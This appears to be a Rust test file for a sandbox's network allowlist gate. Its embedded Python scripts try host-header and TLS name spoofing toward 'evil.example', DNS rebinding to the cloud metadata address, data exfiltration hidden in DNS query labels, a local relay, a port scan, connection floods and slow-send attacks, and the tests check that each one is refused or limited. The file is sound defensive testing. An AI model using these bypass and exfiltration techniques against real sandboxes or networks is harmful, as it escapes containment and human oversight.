//! Tests of code that tries to bypass or exhaust the gate.

use std::time::{Duration, Instant};

use sandbox_core::NetworkPolicy;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::support::{GatedCell, echo_server, fresh_address, http_server, serve};

/// Sets up `a.example` and `b.example` on one address of the host, with servers that would also answer for
/// `evil.example`.
async fn one_server_for_all() -> GatedCell {
    let address = fresh_address();
    let gated = GatedCell::allowing(&["a.example", "b.example", &address]).await;
    for name in ["a.example", "b.example", "evil.example"] {
        gated.network.name(name, &[&address]);
    }
    http_server(&address, 80, "served").await;
    echo_server(&address, 443).await;
    gated
}

#[tokio::test]
async fn requests_name_only_allowed_hosts() {
    let gated = one_server_for_all().await;
    let script = "
print(fetch('a.example'), fetch('a.example', name='evil.example'), fetch('a.example', more='Host: evil.example\\r\\n'))
print(send('a.example', 80, b'GET http://evil.example/ HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n'))
print(send('a.example', 80, b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n'))
print(send('a.example', 80, b'GET / HTTP/1.0\\r\\n\\r\\n'))
print(send('a.example', 80, b'SSH-2.0-x\\r\\n'))
two = b'GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'
print('served' in send('a.example', 80, two))";
    let reset = "ConnectionResetError";
    let expected = format!("served {reset} {reset}\n{reset}\n{reset}\n{reset}\n{reset}\nFalse");
    assert_eq!(gated.python(script).await, expected);
    assert_eq!(
        gated.denied(),
        [
            "evil.example:80 wrong_host evil.example:80 3",
            "a.example:80 wrong_protocol nothing 3",
            "a.example:80 wrong_host nothing 1",
        ]
    );
}

#[tokio::test]
async fn tls_names_only_allowed_hosts() {
    let gated = one_server_for_all().await;
    // The server echoes the ClientHello, which no client accepts: what counts is whether it arrived.
    let script = "
def greet(host, name):
    context = ssl._create_unverified_context()
    try:
        with socket.create_connection((host, 443), 5) as s: context.wrap_socket(s, server_hostname=name)
    except ssl.SSLError: return 'reached'
    except OSError as e: return type(e).__name__
print(greet('a.example', 'a.example'), greet('a.example', 'b.example'), greet('a.example', 'evil.example'))
print(greet('a.example', None), send('a.example', 443, b'GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n'))
print(greet('evil.example', 'a.example'), send('a.example', 443, b''))";
    let script = script.replace("s: context", "s:\n            s.settimeout(2); context");
    let output = gated
        .python(&script.replace("except ssl.SSLError", "except (ssl.SSLError, TimeoutError)"))
        .await;
    let reset = "ConnectionResetError";
    assert_eq!(output, format!("reached reached {reset}\n{reset} {reset}\ngaierror nothing"));
    let denied = gated.denied();
    assert!(
        denied.contains(&"evil.example:443 wrong_host evil.example:443 1".to_owned()),
        "{denied:?}"
    );
    assert!(denied.contains(&"a.example:443 wrong_host nothing 1".to_owned()), "{denied:?}");
    assert!(denied.contains(&"a.example:443 wrong_protocol nothing 1".to_owned()), "{denied:?}");
}

#[tokio::test]
async fn a_name_that_moves_inside_is_refused_when_it_has_moved() {
    let address = fresh_address();
    let gated = GatedCell::allowing(&["a.example", "127.64.0.0/10:8080"]).await;
    gated.network.names_in_turn("a.example", &[&[&address], &["169.254.169.254"]]);
    echo_server(&address, 8080).await;
    // The second server has another port than the rule: the address by itself allows nothing.
    echo_server(&address, 8081).await;
    let script = "print(send('a.example', 8080), send('a.example', 8081))";
    assert_eq!(gated.python(script).await, "HELLO ConnectionResetError");
    let expected = format!("a.example:8081 private_address {address}:8081 1");
    assert_eq!(gated.denied(), [expected]);
    // The answer is cached for the connection that follows, and looked up again later.
    assert_eq!(gated.network.lookups.lock().unwrap().len(), 1);
}

#[tokio::test]
async fn the_real_peer_address_counts() {
    let address = fresh_address();
    let gated = GatedCell::allowing(&["a.example"]).await;
    gated.network.name("a.example", &["8.8.8.8"]);
    echo_server(&address, 8080).await;
    *gated.network.detour.lock().unwrap() = Some(format!("{address}:8080").parse().unwrap());
    assert_eq!(gated.python("print(send('a.example', 8080))").await, "ConnectionResetError");
    let expected = format!("a.example:8080 private_address {address}:8080 1");
    assert_eq!(gated.denied(), [expected]);
}

#[tokio::test]
async fn this_host_by_its_public_address_is_private() {
    let gated = GatedCell::allowing(&["a.example"]).await;
    gated.network.name("a.example", &["8.8.8.8"]);
    gated.network.own.lock().unwrap().push("8.8.8.8".parse().unwrap());
    assert_eq!(gated.python("print(send('a.example', 8080))").await, "gaierror");
    assert_eq!(gated.denied(), ["a.example private_address 8.8.8.8 1"]);
    assert!(gated.network.dialled.lock().unwrap().is_empty());
}

#[tokio::test]
async fn a_relay_inside_changes_nothing() {
    let gated = one_server_for_all().await;
    let script = "
relay = socket.create_server(('127.0.0.1', 3128))
def forward():
    one, _ = relay.accept()
    with socket.create_connection(('a.example', 80), 5) as two:
        two.sendall(one.recv(1000)); 
        try: one.sendall(two.recv(1000))
        except OSError: one.close()
threading.Thread(target=forward, daemon=True).start()
print(fetch('127.0.0.1', 3128, name='evil.example') in ('nothing', 'ConnectionResetError'))";
    assert_eq!(gated.python(script).await, "True");
    assert_eq!(gated.denied(), ["evil.example:80 wrong_host evil.example:80 1"]);
}

#[tokio::test]
async fn dns_queries_carry_nothing_out() {
    let gated = GatedCell::allowing(&["a.example"]).await;
    let script = "
import os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('127.0.0.1', 53))
def question(labels, kind=1, count=1):
    body = b''.join(bytes([len(l)]) + l for l in labels) + b'\\0' + kind.to_bytes(2, 'big') + b'\\0\\1'
    return b'\\1\\2\\1\\0' + count.to_bytes(2, 'big') + bytes(6) + body
def ask(packet):
    s.send(packet)
    return s.recv(2000)[3] & 15
secret = os.urandom(40).hex().encode()[:60]
print(ask(question([secret, b'evil', b'example'])), ask(question([secret, b'a', b'example'])))
for kind in 16, 5, 33, 65, 255, 12: print(ask(question([secret, b'evil', b'example'], kind)), end=' ')
print(ask(question([b'a', b'example'], count=2)), ask(question([b'x' * 63] * 5)))
for garbage in b'', b'x', os.urandom(11), os.urandom(9000), b'\\1\\2\\x81\\0' + bytes(500): s.send(garbage)
print(ask(question([b'\\xff\\0\\r\\n', b'example'])), ask(question([])))
with socket.create_connection(('127.0.0.1', 53), 5) as t:
    t.sendall(b'\\xff\\xff' + bytes(2000))
    print(attempt(lambda: t.recv(10)) in (b'', 'ConnectionResetError'))
held = [socket.create_connection(('127.0.0.1', 53), 5) for n in range(100)]
print(ask(question([b'evil', b'example'])))";
    let expected = "3 3\n3 3 3 3 3 3 1 1\n3 3\nTrue\n3";
    assert_eq!(gated.python(script).await, expected);
    assert!(gated.network.lookups.lock().unwrap().is_empty(), "{:?}", gated.network.lookups);
}

#[tokio::test]
async fn a_scan_finds_nothing_and_is_counted_in_bounds() {
    let gated = GatedCell::allowing(&["a.example"]).await;
    let script = "
found = set()
for port in range(1, 400): found.add(send('10.0.0.7', port, b''))
print(found)";
    let output = gated.python(script).await;
    assert!(
        ["{'ConnectionResetError'}", "{'ConnectionResetError', 'nothing'}"]
            .contains(&output.as_str()),
        "{output}"
    );
    assert_eq!(gated.denied().len(), 64);
    assert!(gated.network.dialled.lock().unwrap().is_empty());
}

#[tokio::test]
async fn a_flood_is_held_back_and_ends() {
    let address = fresh_address();
    let mut policy = NetworkPolicy::allowlist(["a.example"]).unwrap();
    policy.allow.push(address.parse().unwrap());
    let gated = GatedCell::with(policy, |config| {
        config.limits.connections = 100;
        // Long enough for the last connection's own first bytes, on a busy machine.
        config.limits.first_bytes = Duration::from_secs(1);
    })
    .await;
    gated.network.name("a.example", &[&address]);
    http_server(&address, 80, "served").await;
    let began = Instant::now();
    // A thousand connections that send nothing or half a request; those behind them are still served.
    let script = "
to = socket.gethostbyname('a.example')
held = []
for n in range(1000):
    s = socket.socket(); s.setblocking(False); s.connect_ex((to, 80)); held.append(s)
for n, s in enumerate(held):
    if n % 2:
        try: s.send(b'GET / HTT')
        except OSError: pass
s = socket.create_connection((to, 80), 60); s.settimeout(60)
print(fetch('a.example', connection=s))";
    assert_eq!(gated.python(script).await, "served");
    assert!(began.elapsed() < Duration::from_secs(30), "{:?}", began.elapsed());
    let dialled = gated.network.dialled.lock().unwrap().len();
    assert!(dialled <= 1001, "{dialled}");
}

#[tokio::test]
async fn connections_beyond_the_limit_wait() {
    let address = fresh_address();
    let mut policy = NetworkPolicy::allowlist(["a.example"]).unwrap();
    policy.allow.push(address.parse().unwrap());
    let gated = GatedCell::with(policy, |config| config.limits.connections = 3).await;
    gated.network.name("a.example", &[&address]);
    serve(&address, 8080, |mut stream| async move {
        let _ = stream.write_all(b"hello").await;
        let _ = stream.read_to_end(&mut Vec::new()).await;
    })
    .await;
    let script = "
def receive(s):
    s.settimeout(.5)
    return attempt(lambda: s.recv(5).decode())
held = [socket.create_connection(('a.example', 8080), 5) for n in range(5)]
print([receive(s) for s in held])
held[0].close()
print(receive(held[3]), receive(held[4]))";
    let first = "['hello', 'hello', 'hello', 'TimeoutError', 'TimeoutError']";
    assert_eq!(gated.python(script).await, format!("{first}\nhello TimeoutError"));
}

#[tokio::test]
async fn silent_connections_time_out() {
    let address = fresh_address();
    let mut policy = NetworkPolicy::allowlist(["a.example"]).unwrap();
    policy.allow.push(address.parse().unwrap());
    let gated = GatedCell::with(policy, |config| {
        config.limits.idle = Duration::from_millis(300);
        config.limits.first_bytes = Duration::from_millis(300);
    })
    .await;
    gated.network.name("a.example", &[&address]);
    http_server(&address, 80, "served").await;
    for port in [443, 8080] {
        echo_server(&address, port).await;
    }
    let script = "
def silent(port, data):
    began = time.monotonic()
    with socket.create_connection(('a.example', port), 5) as s:
        s.sendall(data)
        answer = attempt(lambda: s.recv(1))
    return answer, time.monotonic() - began < 3
print(silent(80, b'GET'), silent(80, b''), silent(443, b'\\x16\\x03'), silent(8080, b'x'))
def slowly():
    with socket.create_connection(('a.example', 80), 5) as s:
        for byte in b'GET / HTTP/1.1\\r\\nHost: a.example\\r\\nX: ' + b'y' * 100:
            s.sendall(bytes([byte])); time.sleep(.05)
print(attempt(slowly) in ('ConnectionResetError', 'BrokenPipeError'))";
    let reset = "('ConnectionResetError', True)";
    let output = gated.python(script).await;
    assert_eq!(output, format!("{reset} {reset} {reset} {reset}\nTrue"));
}

#[tokio::test]
async fn names_are_bounded() {
    let address = fresh_address();
    let mut policy = NetworkPolicy::allowlist(["*.a.example"]).unwrap();
    policy.allow.push(address.parse().unwrap());
    let gated = GatedCell::with(policy, |config| config.limits.names = 3).await;
    for n in 0..5 {
        gated.network.name(&format!("n{n}.a.example"), &[&address]);
    }
    let script = "for n in range(5): print(lookup(f'n{n}.a.example'), end=' ')";
    let expected = "198.18.0.2 198.18.0.3 198.18.0.4 gaierror gaierror";
    assert_eq!(gated.python(script).await, expected);
}
